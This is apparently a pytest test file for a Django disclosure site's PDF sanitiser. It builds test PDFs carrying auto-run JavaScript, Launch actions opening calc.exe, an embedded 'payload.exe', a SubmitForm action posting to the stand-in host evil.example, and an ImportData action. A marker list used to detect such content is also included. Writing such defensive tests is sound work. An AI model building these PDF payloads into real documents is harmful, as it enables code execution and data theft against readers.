"""PDF JavaScript, automatic actions and embedded content are removed when a PDF is uploaded (or the file
is refused where removing them would break a signature); only files cleaned this way are shown inline,
and then sandboxed. The PDFs are real ones, built here with pypdf."""

import io

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from disclosure import workflow
from disclosure.files import AttachmentRefused, accept_upload, document_properties, strip_metadata
from disclosure.files.pdf import PDF_CLEANING_VERSION
from disclosure.models import Attachment, GazetteIssue
from tests.disclosure.test_admin import form_data

# Byte strings none of which may be left in a cleaned file (pypdf writes these objects uncompressed).
ACTIVE_MARKERS = (b"/OpenAction", b"/AA", b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/ImportData",
                  b"/RichMedia", b"/EmbeddedFiles", b"/XFA", b"alertMarker", b"calc", b"evil")


def action(kind, **entries):
    return DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind),
                             **{NameObject(f"/{key}"): value for key, value in entries.items()}})


def script(text="alertMarker"):
    return action("/JavaScript", JS=TextStringObject(text))


def rect():
    return ArrayObject([NumberObject(10), NumberObject(10), NumberObject(50), NumberObject(50)])


def annotation(writer, subtype, **entries):
    return writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): rect(), **{NameObject(f"/{key}"): value for key, value in entries.items()},
    }))


def active_pdf_writer():
    """A two-page PDF with every kind of active content a reader runs or opens by itself, and a plain
    link that must survive."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("payload.exe", b"MZ calc.exe")  # /Names /EmbeddedFiles
    names = writer.root_object["/Names"]
    names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): ArrayObject([
        TextStringObject("startup"), writer._add_object(script("alertMarker")),
    ])})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(script())
    writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): script()})
    first, second = writer.pages
    first[NameObject("/AA")] = DictionaryObject({NameObject("/O"): script()})
    launch = action("/Launch", F=TextStringObject("calc.exe"))
    submit = action("/SubmitForm", F=TextStringObject("https://evil.example/collect"))
    link_to_page = action("/URI", URI=TextStringObject("https://www.gov.cn/"), Next=ArrayObject([launch]))
    widget = annotation(writer, "/Widget", FT=NameObject("/Btn"), T=TextStringObject("提交"), A=submit,
                        AA=DictionaryObject({NameObject("/K"): script()}))
    first[NameObject("/Annots")] = ArrayObject([
        annotation(writer, "/Link", A=action("/Launch", F=TextStringObject("calc.exe"))),
        annotation(writer, "/Link", A=action("/ImportData", F=TextStringObject("evil.example.fdf"))),
        annotation(writer, "/Link", A=link_to_page),
        annotation(writer, "/RichMedia"),
        annotation(writer, "/Link", A=action("/URI", URI=TextStringObject("https://www.gov.cn/zhengce/"))),
        widget,
    ])
    second[NameObject("/Annots")] = ArrayObject([annotation(writer, "/Screen", AA=DictionaryObject({NameObject("/PO"): script()}))])
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): ArrayObject([widget]), NameObject("/XFA"): TextStringObject("alertMarker"),
    })
    return writer


def as_bytes(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def active_pdf():
    return as_bytes(active_pdf_writer())


def signed_active_pdf():
    writer = active_pdf_writer()
    signature = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Sig"), NameObject("/Filter"): NameObject("/Adobe.PPKLite"),
        NameObject("/ByteRange"): ArrayObject([NumberObject(0)] * 4), NameObject("/Contents"): TextStringObject("0000"),
    }))
    field = writer._add_object(DictionaryObject({
        NameObject("/FT"): NameObject("/Sig"), NameObject("/T"): TextStringObject("县公安局电子印章"),
        NameObject("/V"): signature, NameObject("/Subtype"): NameObject("/Widget"), NameObject("/Rect"): rect(),
    }))
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): ArrayObject([field]), NameObject("/SigFlags"): NumberObject(3),
    })
    return as_bytes(writer)


def assert_no_active_content(data):
    for marker in ACTIVE_MARKERS:
        assert marker not in data, marker
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) == 2
    assert "/Names" not in reader.trailer["/Root"] or not reader.trailer["/Root"]["/Names"]
    links = [a.get_object() for a in reader.pages[0]["/Annots"]]
    # The plain links stay, the one whose chained /Next launched a program without its chain.
    uris = [link["/A"]["/URI"] for link in links if "/A" in link]
    assert uris == ["https://www.gov.cn/", "https://www.gov.cn/zhengce/"]


def test_the_built_pdf_does_carry_every_kind_of_active_content():
    data = active_pdf()
    for marker in ACTIVE_MARKERS:
        assert marker in data, marker
    found = document_properties(data, "pdf")["active_content"]
    for kind in ("OpenAction", "AA", "JavaScript", "EmbeddedFiles", "Launch", "SubmitForm", "ImportData",
                 "RichMedia", "Screen", "XFA"):
        assert kind in found


def test_cleaning_removes_javascript_auto_actions_and_embedded_content():
    cleaned = strip_metadata(active_pdf(), "pdf")
    assert_no_active_content(cleaned)
    assert document_properties(cleaned, "pdf") == {}


def test_signed_pdf_with_active_content_is_refused_with_a_message():
    with pytest.raises(AttachmentRefused, match="数字签名.*脚本.*签名失效"):
        accept_upload(SimpleUploadedFile("通知.pdf", signed_active_pdf()))


def test_admin_upload_stores_the_pdf_without_active_content(client, gongan, gongan_clerk, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(gongan_clerk)
    data = form_data(gongan, **{"attachments-0-file": SimpleUploadedFile("附件1.pdf", active_pdf())})
    response = client.post("/admin/disclosure/document/add/", data)
    assert response.status_code == 302, response.content.decode()[:2000]
    attachment = Attachment.objects.get()
    assert attachment.cleaned_version == PDF_CLEANING_VERSION
    with attachment.file.open("rb") as stored:
        assert_no_active_content(stored.read())


# ---------------------------------------------------------------- serving


@pytest.fixture
def public_attachment(public_document, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    cleaned = accept_upload(SimpleUploadedFile("附件.pdf", active_pdf()))
    return Attachment.objects.create(document=public_document, file=cleaned.content, original_name="附件.pdf",
                                     kind="pdf", size=cleaned.size)


def test_cleaned_pdf_is_shown_inline_sandboxed(client, public_attachment):
    url = f"/xxgk/documents/{public_attachment.document_id}/attachments/{public_attachment.pk}/?view=1"
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("inline")
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_pdf_stored_before_the_current_cleaning_is_only_downloaded(client, public_attachment):
    Attachment.objects.filter(pk=public_attachment.pk).update(cleaned_version=0)  # as the migration marks old rows
    url = f"/xxgk/documents/{public_attachment.document_id}/attachments/{public_attachment.pk}/?view=1"
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_gazette_pdf_goes_through_the_same_cleaning_and_sandbox(client, county_reviewer, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    issue = GazetteIssue(year=2026, number=3, publish_date="2026-06-30", is_published=False)
    issue.pdf.save("g.pdf", ContentFile(b"%PDF-1.4"), save=False)
    issue.save()
    workflow.add_gazette_pdf(issue, by=county_reviewer, content=accept_upload(SimpleUploadedFile("公报.pdf", active_pdf())).content)
    GazetteIssue.objects.filter(pk=issue.pk).update(is_published=True)

    response = client.get(f"/xxgk/gazette/{issue.pk}/pdf/?view=1")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("inline")
    assert response["Content-Security-Policy"] == "sandbox"
    assert_no_active_content(b"".join(response.streaming_content))

    GazetteIssue.objects.filter(pk=issue.pk).update(cleaned_version=0)
    assert client.get(f"/xxgk/gazette/{issue.pk}/pdf/?view=1")["Content-Disposition"].startswith("attachment")
